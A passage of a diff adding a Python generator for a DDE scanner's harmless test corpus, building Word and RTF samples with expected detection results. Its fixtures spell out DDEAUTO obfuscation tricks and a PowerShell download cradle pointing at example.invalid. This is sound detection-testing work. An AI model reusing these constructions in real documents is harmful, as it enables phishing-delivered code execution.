@@ -1,0 +1,1672 @@
+#!/usr/bin/env python3
+"""Write ddescan's harmless sample corpus and its manifest, byte for byte the same every run.
+
+    python corpus/generate.py [--out DIR] [--manifest PATH]
+
+Each sample is built from the rules of its file format (ECMA-376 Part 1 17.16 fields and
+Part 2 packaging, [MS-XLSX]/SpreadsheetML, RTF 1.9.1, RFC 4180 CSV, SYLK) and from what
+published DDE campaigns did, never from ddescan's own parsers: the corpus is the
+independent check of those parsers. Payloads are harmless by construction: they start
+calc.exe, notepad.exe or whoami, or name hosts under example.invalid / 203.0.113.0/24.
+Nothing here is ever executed.
+
+Determinism: ZIP members carry the 1980-01-01 timestamp, a fixed order and fixed
+attributes; python-docx and openpyxl output is re-packed with its core-properties dates
+(and openpyxl's version string) pinned; nothing is random.
+"""
+
+from __future__ import annotations
+
+import argparse
+import base64
+import datetime
+import io
+import json
+import re
+import sys
+import zipfile
+from collections.abc import Callable, Iterable, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from xml.sax.saxutils import escape, quoteattr
+
+import docx
+import openpyxl
+from docx.oxml import parse_xml
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.styles import Font
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.formula import ArrayFormula
+
+HERE = Path(__file__).resolve().parent
+SAMPLES_DIR = HERE / "samples"
+MANIFEST_PATH = HERE / "manifest.json"
+GROUPS = ("allowed", "bad", "clean", "csv", "excel", "rtf", "word")
+MANIFEST_VERSION = 1
+
+ZIP_EPOCH = (1980, 1, 1, 0, 0, 0)
+FIXED_DATE = "1980-01-01T00:00:00Z"
+
+WORD = "WINWORD.EXE"
+EXCEL = "EXCEL.EXE"
+FIELD = "dde-field"
+FORMULA = "dde-formula"
+LINK = "dde-link"
+
+
+@dataclass(frozen=True)
+class Hit:
+    """One finding the scanner must report (matched by every field that is set)."""
+
+    technique: str
+    image: str
+    command_line_contains: str
+    parent: str
+    location_contains: str = ""
+    command_line: str | None = None
+    is_office_spawn: bool | None = None
+    suspicious_args: bool | None = None
+    allowed: bool | None = None
+
+    def to_json(self) -> dict[str, object]:
+        out: dict[str, object] = {
+            "technique": self.technique,
+            "image": self.image,
+            "command_line_contains": self.command_line_contains,
+            "parent": self.parent,
+        }
+        if self.location_contains:
+            out["location_contains"] = self.location_contains
+        if self.command_line is not None:
+            out["command_line"] = self.command_line
+        kql = {
+            name: value
+            for name, value in (
+                ("is_office_spawn", self.is_office_spawn),
+                ("suspicious_args", self.suspicious_args),
+            )
+            if value is not None
+        }
+        if kql:
+            out["kql"] = kql
+        if self.allowed is not None:
+            out["allowed"] = self.allowed
+        return out
+
+
+@dataclass(frozen=True)
+class Expect:
+    """What scanning a sample must give.
+
+    `problems` is the exact multiset of problem kinds (empty: no problem at all);
+    `finding_count` is set only where the number of findings is certain.
+    """
+
+    verdict: str
+    findings: tuple[Hit, ...] = ()
+    finding_count: int | None = None
+    problems: tuple[str, ...] = ()
+
+    def to_json(self) -> dict[str, object]:
+        out: dict[str, object] = {
+            "verdict": self.verdict,
+            "findings": [hit.to_json() for hit in self.findings],
+            "problems": list(self.problems),
+        }
+        if self.finding_count is not None:
+            out["finding_count"] = self.finding_count
+        return out
+
+
+@dataclass(frozen=True)
+class Allowed:
+    """The same sample scanned with some DDE services allowed."""
+
+    services: tuple[str, ...]
+    expect: Expect
+
+    def to_json(self) -> dict[str, object]:
+        return {"services": list(self.services), "expect": self.expect.to_json()}
+
+
+@dataclass(frozen=True)
+class Sample:
+    path: str
+    data: bytes
+    description: str
+    technique_tested: str
+    expect: Expect
+    allowed_services: Allowed | None = None
+
+    def to_json(self) -> dict[str, object]:
+        out: dict[str, object] = {
+            "path": self.path,
+            "description": self.description,
+            "technique_tested": self.technique_tested,
+            "expect": self.expect.to_json(),
+        }
+        if self.allowed_services is not None:
+            out["allowed_services"] = self.allowed_services.to_json()
+        return out
+
+
+def one(hit: Hit, verdict: str = "malicious") -> Expect:
+    return Expect(verdict=verdict, findings=(hit,), finding_count=1)
+
+
+CLEAN = Expect(verdict="clean", finding_count=0)
+
+
+def zip_members(members: Iterable[tuple[str, bytes]]) -> bytes:
+    """A ZIP with fixed timestamps, attributes and the given member order."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, data in members:
+            info = zipfile.ZipInfo(name, date_time=ZIP_EPOCH)
+            info.compress_type = zipfile.ZIP_DEFLATED
+            info.create_system = 0
+            info.external_attr = 0
+            archive.writestr(info, data, compresslevel=6)
+    return buffer.getvalue()
+
+
+_CORE_DATE = re.compile(rb"(<dcterms:(?:created|modified)\b[^>]*>)[^<]*(</dcterms:)")
+_OPENPYXL_VERSION = re.compile(rb"(Openpyxl)[ 0-9.]*")
+_APP_VERSION = re.compile(rb"<AppVersion>[^<]*</AppVersion>")
+
+
+def _member_order(name: str) -> tuple[int, str]:
+    return ({"[Content_Types].xml": 0, "_rels/.rels": 1}.get(name, 2), name)
+
+
+def normalise_package(data: bytes) -> bytes:
+    """Re-pack a library-written package: pinned dates and versions, sorted members."""
+    with zipfile.ZipFile(io.BytesIO(data)) as source:
+        members = {info.filename: source.read(info) for info in source.infolist()}
+    if "docProps/core.xml" in members:
+        members["docProps/core.xml"] = _CORE_DATE.sub(
+            rb"\g<1>" + FIXED_DATE.encode() + rb"\g<2>", members["docProps/core.xml"]
+        )
+    if "docProps/app.xml" in members:
+        app = _OPENPYXL_VERSION.sub(rb"\g<1>", members["docProps/app.xml"])
+        members["docProps/app.xml"] = _APP_VERSION.sub(b"<AppVersion>3.1</AppVersion>", app)
+    return zip_members((name, members[name]) for name in sorted(members, key=_member_order))
+
+
+# ISO/IEC 29500 Strict renames the transitional namespaces (ISO/IEC 29500-1, Annex A); the
+# OPC namespaces of Part 2 (content types, package relationships) stay as they are.
+STRICT_NAMESPACES = (
+    (
+        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
+        b"http://purl.oclc.org/ooxml/wordprocessingml/main",
+    ),
+    (
+        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
+        b"http://purl.oclc.org/ooxml/spreadsheetml/main",
+    ),
+    (
+        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
+        b"http://purl.oclc.org/ooxml/officeDocument/relationships",
+    ),
+    (b"<w:document ", b'<w:document w:conformance="strict" '),
+    (b"<workbook ", b'<workbook conformance="strict" '),
+)
+
+
+def strict_package(data: bytes) -> bytes:
+    """The same package written with ISO/IEC 29500 Strict namespaces."""
+    with zipfile.ZipFile(io.BytesIO(data)) as source:
+        members = [(info.filename, source.read(info)) for info in source.infolist()]
+    converted = []
+    for name, content in members:
+        for old, new in STRICT_NAMESPACES:
+            content = content.replace(old, new)
+        converted.append((name, content))
+    return zip_members(converted)
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+REL_CORE = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
+XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+
+
+@dataclass(frozen=True)
+class Rel:
+    id: str
+    type: str
+    target: str
+
+
+@dataclass(frozen=True)
+class Part:
+    name: str
+    content_type: str
+    data: bytes
+    rels: tuple[Rel, ...] = ()
+
+
+def _rels_xml(rels: Sequence[Rel]) -> bytes:
+    body = "".join(
+        f"<Relationship Id={quoteattr(rel.id)} "
+        f"Type={quoteattr(rel.type if '/' in rel.type else REL + rel.type)} "
+        f"Target={quoteattr(rel.target)}/>"
+        for rel in rels
+    )
+    return (
+        XML_DECL + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        f'relationships">{body}</Relationships>'
+    ).encode()
+
+
+def _rels_name(part: str) -> str:
+    folder, _, base = part.rpartition("/")
+    return f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
+
+
+def opc_package(parts: Sequence[Part]) -> bytes:
+    """An OPC package whose first part is the main document (package officeDocument rel)."""
+    overrides = "".join(
+        f"<Override PartName={quoteattr('/' + part.name)} "
+        f"ContentType={quoteattr(part.content_type)}/>"
+        for part in parts
+    )
+    content_types = (
+        XML_DECL + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" '
+        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        f"{overrides}</Types>"
+    ).encode()
+    members: list[tuple[str, bytes]] = [
+        ("[Content_Types].xml", content_types),
+        ("_rels/.rels", _rels_xml([Rel("rId1", "officeDocument", parts[0].name)])),
+    ]
+    for part in parts:
+        members.append((part.name, part.data))
+        if part.rels:
+            members.append((_rels_name(part.name), _rels_xml(part.rels)))
+    return zip_members(members)
+
+
+CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
+CT_DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
+CT_DOTM = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
+CT_WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
+
+W_NS = (
+    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+    'xmlns:v="urn:schemas-microsoft-com:vml" '
+    'xmlns:o="urn:schemas-microsoft-com:office:office"'
+)
+
+# The canonical field of the October 2017 DDE write-ups: inside a field argument a literal
+# backslash is written doubled (ECMA-376 Part 1, 17.16.1), so Word hands
+# c:\windows\system32\cmd.exe to the loader.
+CMD_ARGS = r'c:\\windows\\system32\\cmd.exe "/k calc.exe"'
+CMD_FIELD = "DDEAUTO " + CMD_ARGS
+CMD_LINE = r"c:\windows\system32\cmd.exe /k calc.exe"
+
+
+def instr(text: str) -> str:
+    return f'<w:r><w:instrText xml:space="preserve">{escape(text)}</w:instrText></w:r>'
+
+
+def text_run(text: str) -> str:
+    return f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'
+
+
+def fld_char(kind: str, dirty: bool = False) -> str:
+    flag = ' w:dirty="true"' if dirty else ""
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"{flag}/></w:r>'
+
+
+def field(*inner: str, result: str | None = None, dirty: bool = False) -> str:
+    """A complex field: begin, instruction runs (already XML), [separate, result], end."""
+    xml = fld_char("begin", dirty) + "".join(inner)
+    if result is not None:
+        xml += fld_char("separate") + text_run(result)
+    return xml + fld_char("end")
+
+
+def para(*inner: str) -> str:
+    return "<w:p>" + "".join(inner) + "</w:p>"
+
+
+def word_part(root: str, body: str) -> bytes:
+    return f"{XML_DECL}<w:{root} {W_NS}>{body}</w:{root}>".encode()
+
+
+def document_xml(body: str, sect: str = "") -> bytes:
+    return word_part("document", f"<w:body>{body}<w:sectPr>{sect}</w:sectPr></w:body>")
+
+
+def word_package(
+    body: str,
+    main_type: str = CT_DOCX,
+    sect: str = "",
+    parts: Sequence[Part] = (),
+    rels: Sequence[Rel] = (),
+) -> bytes:
+    main = Part("word/document.xml", main_type, document_xml(body, sect), tuple(rels))
+    return opc_package([main, *parts])
+
+
+def lure(text: str = "Please enable editing and update the links to view this invoice.") -> str:
+    return para(text_run(text))
+
+
+def word_hit(
+    command: str = CMD_LINE,
+    image: str = "cmd.exe",
+    part: str = "word/document.xml",
+    spawn: bool = True,
+    args: bool = False,
+) -> Hit:
+    return Hit(
+        technique=FIELD,
+        image=image,
+        command_line_contains=command,
+        parent=WORD,
+        location_contains=part,
+        is_office_spawn=spawn,
+        suspicious_args=args,
+    )
+
+
+def python_docx_package(build: Callable[[docx.document.Document], None]) -> bytes:
+    document = docx.Document()
+    build(document)
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return normalise_package(buffer.getvalue())
+
+
+def _append_xml(paragraph: object, xml: str) -> None:
+    """Append raw WordprocessingML runs to a python-docx paragraph."""
+    wrapper = parse_xml(f"<w:p {W_NS}>{xml}</w:p>")
+    target = paragraph._p  # type: ignore[attr-defined]
+    for child in list(wrapper):
+        target.append(child)
+
+
+def _wrapped(open_tag: str, close_tag: str) -> str:
+    """Split CMD_FIELD so that its application path sits inside a wrapper element."""
+    return field(
+        instr(" DDEAUTO "),
+        open_tag + instr(r"c:\\windows\\system32\\cmd.exe ") + close_tag,
+        instr('"/k calc.exe" '),
+        result="Loading content...",
+    )
+
+
+WRAPPERS: tuple[tuple[str, str, str, str], ...] = (
+    (
+        "ins",
+        '<w:ins w:id="1" w:author="Accounts" w:date="2017-10-10T00:00:00Z">',
+        "</w:ins>",
+        "tracked insertion (w:ins, 17.13.5.18)",
+    ),
+    (
+        "sdt",
+        '<w:sdt><w:sdtPr><w:id w:val="7"/></w:sdtPr><w:sdtContent>',
+        "</w:sdtContent></w:sdt>",
+        "run-level content control (w:sdt/w:sdtContent, 17.5.2)",
+    ),
+    (
+        "hyperlink",
+        '<w:hyperlink w:anchor="top">',
+        "</w:hyperlink>",
+        "hyperlink container (w:hyperlink, 17.16.22)",
+    ),
+    (
+        "smarttag",
+        '<w:smartTag w:uri="urn:schemas-microsoft-com:office:smarttags" w:element="place">',
+        "</w:smartTag>",
+        "smart tag (w:smartTag, 17.5.1.9)",
+    ),
+    (
+        "customxml",
+        '<w:customXml w:uri="urn:example.invalid:invoice" w:element="total">',
+        "</w:customXml>",
+        "inline custom XML element (w:customXml, 17.5.1.3)",
+    ),
+    (
+        "moveto",
+        '<w:moveToRangeStart w:id="3" w:author="Accounts" w:name="move1"/>'
+        '<w:moveTo w:id="4" w:author="Accounts">',
+        '</w:moveTo><w:moveToRangeEnd w:id="3"/>',
+        "move destination revision (w:moveTo, 17.13.5.25)",
+    ),
+)
+
+
+def quote_codes(text: str) -> str:
+    return " ".join(str(ord(char)) for char in text)
+
+
+def word_samples() -> list[Sample]:
+    samples: list[Sample] = []
+
+    def add(name: str, data: bytes, description: str, technique: str, expect: Expect) -> None:
+        samples.append(Sample(f"word/{name}", data, description, technique, expect))
+
+    def basic(document: docx.document.Document) -> None:
+        document.add_paragraph("Invoice 2017-1142")
+        paragraph = document.add_paragraph()
+        _append_xml(paragraph, field(instr(f" {CMD_FIELD} "), result="Loading invoice..."))
+
+    add(
+        "ddeauto-cmd.docx",
+        python_docx_package(basic),
+        "DDEAUTO field starting cmd.exe by full path, backslashes doubled as field syntax "
+        "requires, the shape of the October 2017 proof of concept and campaigns.",
+        "DDEAUTO field (complex field, w:instrText)",
+        one(Hit(FIELD, "cmd.exe", CMD_LINE, WORD, "word/document.xml", CMD_LINE, True, False)),
+    )
+
+    def plain(document: docx.document.Document) -> None:
+        document.add_paragraph("Quarterly figures")
+        paragraph = document.add_paragraph()
+        command = r'DDE c:\\windows\\system32\\cmd.exe "/c notepad.exe" '
+        _append_xml(paragraph, field(instr(command), result="Figures"))
+
+    add(
+        "dde-plain.docx",
+        python_docx_package(plain),
+        "Plain DDE field (runs when the user updates fields) starting cmd.exe with notepad.",
+        "DDE field (manual update)",
+        one(word_hit(r"c:\windows\system32\cmd.exe /c notepad.exe")),
+    )
+    add(
+        "ddeauto-mixed-case.docx",
+        word_package(lure() + para(field(instr(f" dDeAuTo {CMD_ARGS} ")))),
+        "Field keyword written dDeAuTo: Word matches field keywords case-insensitively.",
+        "keyword case obfuscation",
+        one(word_hit()),
+    )
+    add(
+        "ddeauto-one-char-per-run.docx",
+        word_package(
+            lure() + para(field(*(instr(char) for char in f" {CMD_FIELD} "), result="Loading..."))
+        ),
+        "The whole instruction split one character per w:r/w:instrText, as Word itself does "
+        "after editing; a scanner that reads one run at a time sees no keyword.",
+        "instruction split across runs",
+        one(word_hit()),
+    )
+    for short, open_tag, close_tag, what in WRAPPERS:
+        add(
+            f"ddeauto-in-{short}.docx",
+            word_package(lure() + para(_wrapped(open_tag, close_tag))),
+            f"DDEAUTO whose application path run sits inside a {what}; the field's "
+            "begin, rest of instruction and end sit outside it.",
+            f"field runs inside w:{short}",
+            one(word_hit()),
+        )
+    add(
+        "ddeauto-across-paragraphs.docx",
+        word_package(
+            lure()
+            + para(fld_char("begin"), instr(r" DDEAUTO c:\\windows\\system32\\cmd.exe "))
+            + para(instr('"/k calc.exe" '), fld_char("separate"), text_run("x"))
+            + para(fld_char("end"))
+        ),
+        "One complex field whose begin, instruction pieces and end sit in three paragraphs "
+        "(a complex field may span paragraphs, 17.16.18).",
+        "field spanning paragraphs",
+        one(word_hit()),
+    )
+    add(
+        "ddeauto-quote-codes.docx",
+        word_package(
+            lure()
+            + para(
+                field(
+                    instr(" DDEAUTO "),
+                    field(instr(" QUOTE 99 109 100 ")),
+                    instr(' "/c calc.exe" '),
+                    result="Loading...",
+                )
+            )
+        ),
+        "DDEAUTO whose application is a nested { QUOTE 99 109 100 } field: character codes "
+        "that Word evaluates to 'cmd' before starting the conversation.",
+        "nested QUOTE character codes",
+        one(word_hit("cmd /c calc.exe")),
+    )
+    codes = quote_codes(r"c:\windows\system32\cmd.exe")
+    pieces = [codes[i : i + 7] for i in range(0, len(codes), 7)]
+    add(
+        "ddeauto-quote-codes-split.docx",
+        word_package(
+            lure()
+            + para(
+                field(
+                    instr(" DDEAU"),
+                    instr("TO "),
+                    field(instr(" QUO"), instr("TE "), *(instr(p) for p in pieces), result="a"),
+                    instr(' "/k calc.exe"'),
+                    result="Loading...",
+                )
+            )
+        ),
+        "Nested QUOTE spelling c:\\windows\\system32\\cmd.exe in character codes, the codes "
+        "split over runs every seven characters; the nested field's cached result is a decoy "
+        "('a'), because Word re-evaluates nested fields instead of trusting the cache.",
+        "QUOTE codes split across runs, decoy cached result",
+        one(word_hit()),
+    )
+    add(
+        "ddeauto-set-ref.docx",
+        word_package(
+            lure()
+            + para(field(instr(r' SET cmdvar "c:\\windows\\system32\\cmd.exe" ')))
+            + para(
+                field(
+                    instr(" DDEAUTO "),
+                    field(instr(" REF cmdvar ")),
+                    instr(' "/c calc.exe" '),
+                    result="Loading...",
+                )
+            )
+        ),
+        "SET stores the cmd.exe path in a bookmark, then DDEAUTO takes its application from "
+        "a nested { REF cmdvar } field.",
+        "SET/REF indirection",
+        one(word_hit(r"c:\windows\system32\cmd.exe /c calc.exe")),
+    )
+    add(
+        "ddeauto-if-nested.docx",
+        word_package(
+            lure()
+            + para(
+                field(
+                    instr(" DDEAUTO "),
+                    field(instr(r' IF 1 = 1 "c:\\windows\\system32\\cmd.exe" "x" ')),
+                    instr(' "/k calc.exe" '),
+                    result="Loading...",
+                )
+            )
+        ),
+        'DDEAUTO whose application comes from a nested { IF 1 = 1 "...cmd.exe" "x" } '
+        "field: the condition is always true, so Word substitutes the cmd.exe path.",
+        "nested IF indirection",
+        one(word_hit()),
+    )
+    add(
+        "dde-fldsimple.docx",
+        word_package(
+            lure()
+            + para(
+                f"<w:fldSimple w:instr={quoteattr(' DDE ' + CMD_ARGS + ' ')}>"
+                + text_run("Figures")
+                + "</w:fldSimple>"
+            )
+        ),
+        "DDE as a simple field: the whole instruction in the w:instr attribute (17.16.19).",
+        "w:fldSimple",
+        one(word_hit()),
+    )
+
+    def in_header(document: docx.document.Document) -> None:
+        document.add_paragraph("Body text without fields.")
+        header = document.sections[0].header.paragraphs[0]
+        _append_xml(header, field(instr(f" {CMD_FIELD} "), result="Header"))
+
+    def in_footer(document: docx.document.Document) -> None:
+        document.add_paragraph("Body text without fields.")
+        footer = document.sections[0].footer.paragraphs[0]
+        _append_xml(footer, field(instr(f" {CMD_FIELD} "), result="Footer"))
+
+    add(
+        "ddeauto-in-header.docx",
+        python_docx_package(in_header),
+        "DDEAUTO in the default header part; the body is clean.",
+        "field in header part",
+        one(word_hit(part="word/header1.xml")),
+    )
+    add(
+        "ddeauto-in-footer.docx",
+        python_docx_package(in_footer),
+        "DDEAUTO in the default footer part; the body is clean.",
+        "field in footer part",
+        one(word_hit(part="word/footer1.xml")),
+    )
+    payload = para(field(instr(f" {CMD_FIELD} "), result="x"))
+    separators = (
+        '<w:{0} w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:{0}>'
+        '<w:{0} w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/>'
+        "</w:r></w:p></w:{0}>"
+    )
+    for kind in ("footnote", "endnote"):
+        add(
+            f"ddeauto-in-{kind}.docx",
+            word_package(
+                para(text_run("See note."), f'<w:r><w:{kind}Reference w:id="1"/></w:r>'),
+                parts=[
+                    Part(
+                        f"word/{kind}s.xml",
+                        f"{CT_WML}{kind}s+xml",
+                        word_part(
+                            f"{kind}s",
+                            separators.format(kind) + f'<w:{kind} w:id="1">{payload}</w:{kind}>',
+                        ),
+                    )
+                ],
+                rels=[Rel("rId1", f"{kind}s", f"{kind}s.xml")],
+            ),
+            f"DDEAUTO inside {kind} 1 of word/{kind}s.xml; the body only references the note.",
+            f"field in {kind}s part",
+            one(word_hit(part=f"word/{kind}s.xml")),
+        )
+    add(
+        "ddeauto-in-comment.docx",
+        word_package(
+            para(
+                '<w:commentRangeStart w:id="0"/>',
+                text_run("Approved."),
+                '<w:commentRangeEnd w:id="0"/>',
+                '<w:r><w:commentReference w:id="0"/></w:r>',
+            ),
+            parts=[
+                Part(
+                    "word/comments.xml",
+                    f"{CT_WML}comments+xml",
+                    word_part(
+                        "comments",
+                        f'<w:comment w:id="0" w:author="Accounts" w:initials="A">{payload}'
+                        "</w:comment>",
+                    ),
+                )
+            ],
+            rels=[Rel("rId1", "comments", "comments.xml")],
+        ),
+        "DDEAUTO inside a review comment (word/comments.xml).",
+        "field in comments part",
+        one(word_hit(part="word/comments.xml")),
+    )
+    add(
+        "ddeauto-in-textbox.docx",
+        word_package(
+            lure()
+            + para(
+                '<w:r><w:pict><v:shape id="box1" type="#_x0000_t202" '
+                'style="width:200pt;height:40pt"><v:textbox><w:txbxContent>'
+                + payload
+                + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
+            )
+        ),
+        "DDEAUTO inside a VML text box (w:txbxContent) in the main document.",
+        "field in text box",
+        one(word_hit()),
+    )
+    add(
+        "ddeauto-in-glossary.docx",
+        word_package(
+            lure(),
+            parts=[
+                Part(
+                    "word/glossary/document.xml",
+                    f"{CT_WML}document.glossary+xml",
+                    word_part(
+                        "glossaryDocument",
+                        '<w:docParts><w:docPart><w:docPartPr><w:name w:val="Invoice"/>'
+                        '<w:category><w:name w:val="General"/><w:gallery w:val="autoTxt"/>'
+                        "</w:category></w:docPartPr><w:docPartBody>"
+                        + payload
+                        + "</w:docPartBody></w:docPart></w:docParts>",
+                    ),
+                )
+            ],
+            rels=[Rel("rId1", "glossaryDocument", "glossary/document.xml")],
+        ),
+        "DDEAUTO inside a building block of the glossary document (word/glossary/document.xml, "
+        "17.2.2), which most scanners never open.",
+        "field in glossary document",
+        one(word_hit(part="word/glossary/document.xml")),
+    )
+    rtf_chunk = (
+        r"{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}\pard "
+        r'{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}'
+        r"{\fldrslt Loading...}}\par}"
+    ).encode("ascii")
+    add(
+        "altchunk-rtf-ddeauto.docx",
+        word_package(
+            lure() + '<w:altChunk r:id="rId1"/>',
+            parts=[Part("word/afchunk.rtf", "application/rtf", rtf_chunk)],
+            rels=[Rel("rId1", "aFChunk", "afchunk.rtf")],
+        ),
+        "w:altChunk (17.17.2.1) importing an RTF part that holds the DDEAUTO field; Word "
+        "merges the RTF into the document when it opens it.",
+        "altChunk RTF import",
+        one(word_hit(part="word/afchunk.rtf")),
+    )
+    html_chunk = (
+        "<html xmlns:o='urn:schemas-microsoft-com:office:office' "
+        "xmlns:w='urn:schemas-microsoft-com:office:word'>"
+        "<head><meta http-equiv=Content-Type content='text/html; charset=utf-8'></head>"
+        "<body><p class=MsoNormal><!--[if supportFields]><span "
+        "style='mso-element:field-begin'></span>" + escape(CMD_FIELD) + "<span "
+        "style='mso-element:field-separator'></span><![endif]--><span>Loading...</span>"
+        "<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]-->"
+        "</p></body></html>"
+    ).encode("ascii")
+    add(
+        "altchunk-html-ddeauto.docx",
+        word_package(
+            lure() + '<w:altChunk r:id="rId1"/>',
+            parts=[Part("word/afchunk.htm", "text/html", html_chunk)],
+            rels=[Rel("rId1", "aFChunk", "afchunk.htm")],
+        ),
+        "w:altChunk importing HTML in which the DDEAUTO field is written the way Word saves "
+        "fields to HTML (Office HTML and XML Reference, 'Fields'): spans with "
+        "mso-element:field-begin / field-separator / field-end inside <!--[if supportFields]> "
+        "conditional comments, the instruction text between them.",
+        "altChunk HTML import (mso-element field spans)",
+        one(word_hit(part="word/afchunk.htm")),
+    )
+    switched = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" \d \a \* MERGEFORMAT'
+    add(
+        "ddeauto-switches.docx",
+        word_package(lure() + para(field(instr(f" {switched} "), result="Loading..."))),
+        "DDEAUTO followed by field switches (\\d, \\a and the general \\* MERGEFORMAT); the "
+        "switches are field syntax and must not end up in the command line.",
+        "field switches",
+        one(Hit(FIELD, "cmd.exe", CMD_LINE, WORD, "word/document.xml", CMD_LINE, True, False)),
+    )
+    cradle = (
+        r"C:\\Programs\\Microsoft\\Office\\MSWord\\..\\..\\..\\..\\windows\\system32\\"
+        r"WindowsPowerShell\\v1.0\\powershell.exe -NoP -sta -NonI -W Hidden IEX "
+        r"(New-Object System.Net.WebClient).DownloadString('http://example.invalid/a.ps1'); # "
+    )
+    add(
+        "ddeauto-powershell-cradle.docx",
+        word_package(
+            lure()
+            + para(
+                field(
+                    instr(f' DDEAUTO "{cradle}" "Microsoft Document.docx" '),
+                    result="Microsoft Document",
+                )
+            )
+        ),
+        "The October 2017 campaign shape: a quoted application path that climbs out of an "
+        "Office folder to PowerShell and carries a WebClient download cradle (here to "
+        "example.invalid), then a decoy topic 'Microsoft Document.docx'.",
+        "PowerShell download cradle with path traversal",
+        one(
+            word_hit(
+                "powershell.exe -NoP -sta -NonI -W Hidden IEX (New-Object "
+                "System.Net.WebClient).DownloadString('http://example.invalid/a.ps1');",
+                image="powershell.exe",
+                args=True,
+            )
+        ),
+    )
+    add(
+        "ddeauto-calc-direct.docx",
+        word_package(
+            lure() + para(field(instr(r' DDEAUTO c:\\windows\\system32\\calc.exe "" '), result="x"))
+        ),
+        "DDEAUTO starting calc.exe directly: the runtime rule stays silent (calc.exe is not "
+        "in its child list), a coverage gap the static scan must still report.",
+        "direct program start outside the runtime rule's list",
+        one(word_hit(r"c:\windows\system32\calc.exe", image="calc.exe", spawn=False)),
+    )
+    add(
+        "ddeauto-hh.docx",
+        word_package(
+            lure()
+            + para(
+                field(
+                    instr(r' DDEAUTO c:\\windows\\hh.exe "http://example.invalid/help.chm" '),
+                    result="Help",
+                )
+            )
+        ),
+        "DDEAUTO starting hh.exe (HTML Help, a LOLBin missing from the runtime rule's "
+        "child list) with a remote .chm on example.invalid.",
+        "LOLBin outside the runtime rule's list",
+        one(
+            word_hit(
+                r"c:\windows\hh.exe http://example.invalid/help.chm",
+                image="hh.exe",
+                spawn=False,
+                args=True,
+            )
+        ),
+    )
+    add(
+        "dde-dirty.docx",
+        word_package(
+            lure() + para(field(instr(f" DDE {CMD_ARGS} "), result="Figures", dirty=True))
+        ),
+        'Plain DDE field marked w:dirty="true" so Word updates it when the document opens.',
+        "w:dirty field",
+        one(word_hit()),
+    )
+    add(
+        "ddeauto-strict.docx",
+        strict_package(word_package(lure() + para(field(instr(f" {CMD_FIELD} "), result="x")))),
+        "DDEAUTO in an ISO/IEC 29500 Strict document: the WordprocessingML and relationship "
+        "namespaces are the purl.oclc.org ones, not the transitional ones.",
+        "Strict conformance namespaces",
+        one(word_hit()),
+    )
+    for ext, main_type, keyword in (
+        ("docm", CT_DOCM, "DDEAUTO"),
+        ("dotx", CT_DOTX, "DDE"),
+        ("dotm", CT_DOTM, "DDEAUTO"),
+    ):
+        stem = "dde" if keyword == "DDE" else "ddeauto"
+        add(
+            f"{stem}-cmd.{ext}",
+            word_package(
+                lure() + para(field(instr(f" {keyword} {CMD_ARGS} "), result="x")),
+                main_type=main_type,
+            ),
+            f"{keyword} field in a .{ext} package, identified by its main part content type "
+            f"{main_type}.",
+            f"Word .{ext} content type",
+            one(word_hit()),
+        )
+    return samples
+
+
+RTF_HEAD = r"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss Calibri;}}"
+RTF_CMD = r'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
+
+
+def rtf_field(instruction: str, result: str = "") -> str:
+    return r"{\field{\*\fldinst " + instruction + r"}{\fldrslt " + result + "}}"
+
+
+def rtf(body: str, head: str = RTF_HEAD) -> bytes:
+    return (head + body + "}").encode("ascii")
+
+
+def rtf_hit(command: str = CMD_LINE, location: str = "") -> Hit:
+    return Hit(FIELD, "cmd.exe", command, WORD, location, None, True, False)
+
+
+def rtf_samples() -> list[Sample]:
+    body = r"\pard Invoice 2017-1142\par "
+    items: list[tuple[str, bytes, str, str, Expect]] = [
+        (
+            "ddeauto-cmd.rtf",
+            rtf(body + rtf_field("DDEAUTO " + RTF_CMD, "Loading...") + r"\par "),
+            "DDEAUTO field in RTF: each backslash is escaped for RTF (\\\\) on top of the "
+            "field's own doubling, so the RTF text carries four.",
+            "RTF \\field DDEAUTO",
+            one(rtf_hit()),
+        ),
+        (
+            "ddeauto-hex-escapes.rtf",
+            rtf(body + rtf_field(r"\'44\'44\'45AUTO " + RTF_CMD) + r"\par "),
+            "Keyword written as \\'44\\'44\\'45AUTO: hex escapes of 'DDE' in the ANSI code page.",
+            "RTF \\'hh escapes in the keyword",
+            one(rtf_hit()),
+        ),
+        (
